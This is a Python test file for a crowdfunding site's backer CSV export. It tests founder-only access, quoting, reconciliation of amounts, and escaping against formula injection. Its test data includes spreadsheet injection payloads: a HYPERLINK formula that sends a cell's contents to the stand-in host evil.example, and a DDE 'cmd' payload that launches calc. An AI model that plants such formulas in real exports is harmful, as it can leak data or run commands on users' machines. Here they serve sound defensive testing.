"""The backer CSV export: only the founder gets it; cells are safe to open in a spreadsheet
(no formula injection) and survive commas, quotes and line breaks; amounts reconcile."""
import csv
import io
from decimal import Decimal

import pytest

from crowdfund.accounts.models import User
from crowdfund.dashboard.services import CSV_HEADER, safe_cell
from crowdfund.extensions import db
from crowdfund.pledges.models import COUNTING_STATES, Pledge
from crowdfund.pledges.services import pledged_totals

from .conftest import tiers_of


def parse(response):
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for spreadsheet apps
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_founder_downloads_the_backer_list(funded, founder_client):
    response = founder_client.get(f"/c/{funded['slug']}/dashboard/backers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f'filename="{funded["slug"]}-backers-' in disposition
    assert "no-store" in response.headers["Cache-Control"]
    rows = parse(response)
    assert tuple(rows[0]) == CSV_HEADER
    assert rows[0][:6] == ["name", "email", "tier", "amount", "currency", "state"]
    assert len(rows) == 1 + 8  # every pledge except the one still waiting for a card
    first = dict(zip(rows[0], rows[1]))  # oldest first: Bea's $40.00 on launch day
    assert first["name"] == "Bea Backer" and first["email"] == funded["backer"].email
    assert first["tier"] == "Tier 1" and first["amount"] == "40.00" and first["currency"] == "USD"
    assert first["state"] == "active" and first["shipping_country"] == ""
    assert "No reward" in [r[2] for r in rows[1:]]


def test_a_state_filter_narrows_the_export(funded, founder_client):
    rows = parse(founder_client.get(f"/c/{funded['slug']}/dashboard/backers.csv?state=collected"))
    assert [r[5] for r in rows[1:]] == ["collected"]
    assert founder_client.get(f"/c/{funded['slug']}/dashboard/backers.csv?state=bogus").status_code == 400


def test_a_visitor_is_sent_to_log_in(funded, client):
    response = client.get(f"/c/{funded['slug']}/dashboard/backers.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize("who", ["other user", "backer", "moderator", "admin", "another founder"])
def test_everyone_else_gets_a_404(funded, make_user, make_campaign, login, who):
    if who == "backer":
        user = funded["backer"]
    elif who == "another founder":
        user = make_user()
        make_campaign(founder=user, state="live")
    else:
        user = make_user(role={"moderator": "moderator", "admin": "admin"}.get(who, "backer"))
    response = login(user).get(f"/c/{funded['slug']}/dashboard/backers.csv")
    assert response.status_code == 404
    assert b"name,email,tier" not in response.get_data() and response.mimetype == "text/html"


NASTY = [
    "Smith, John",
    'Ann "the baker" Lee',
    "Two\nlines",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\r=1+1",
    "Zoë 张伟",
]


def test_cells_are_escaped_against_formulas_and_quoted(make_campaign, make_user, make_pledge, founder, founder_client):
    campaign = make_campaign(founder=founder, state="live", tiers=1)
    tier = tiers_of(campaign.id)[0]
    tier.title = '=cmd|" /C calc"!A0, "deluxe"'
    db.session.commit()
    for n, name in enumerate(NASTY):
        make_pledge(campaign, backer=make_user(display_name=f"placeholder {n}"), amount=1000 + n, reward_tier=tier)
    # Names and an email are set directly: whatever the sign-up form allows, the export must cope.
    users = list(db.session.execute(db.select(User).join(Pledge, Pledge.backer_id == User.id)
                                    .where(Pledge.campaign_id == campaign.id).order_by(Pledge.id)).scalars())
    for user, name in zip(users, NASTY):
        user.display_name = name
    users[0].email = "=1+2@example.com"
    db.session.commit()

    response = founder_client.get(f"/c/{campaign.slug}/dashboard/backers.csv")
    raw = response.get_data(as_text=True)
    assert '"Smith, John"' in raw and '"Ann ""the baker"" Lee"' in raw and '"Two\nlines"' in raw
    rows = parse(response)[1:]
    assert len(rows) == len(NASTY)  # the line break inside a name did not split a row
    names = [r[0] for r in rows]
    assert names == [("'" + name if name[0] in "=+-@\t\r" else name) for name in NASTY]
    for r in rows:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r
    assert rows[0][1] == "'=1+2@example.com"
    assert {r[2] for r in rows} == {"'" + tier.title}
    assert rows[0][3] == "10.00" and rows[9][3] == "10.09"


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-5") == "'-5"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(None) == ""
    assert safe_cell("40.00") == "40.00"


def test_amounts_reconcile_with_the_pledged_total(funded, founder_client):
    rows = parse(founder_client.get(f"/c/{funded['slug']}/dashboard/backers.csv"))
    header, body = rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]
    assert header[3:5] == ["amount", "currency"]
    counted = sum(Decimal(r["amount"]) for r in body if r["state"] in COUNTING_STATES)
    total, _backers = pledged_totals([funded["id"]])[funded["id"]]
    assert counted == Decimal(total) / 100 == Decimal("207.34")
    assert all(r["amount"] == f"{Decimal(r['amount']):.2f}" for r in body)  # always two decimals


def test_amounts_in_a_currency_without_minor_units(make_campaign, make_pledge, founder, founder_client):
    campaign = make_campaign(founder=founder, state="live", currency="JPY", goal=500_000)
    make_pledge(campaign, amount=4000, state="collected")
    rows = parse(founder_client.get(f"/c/{campaign.slug}/dashboard/backers.csv"))
    assert rows[1][3:5] == ["4000", "JPY"]
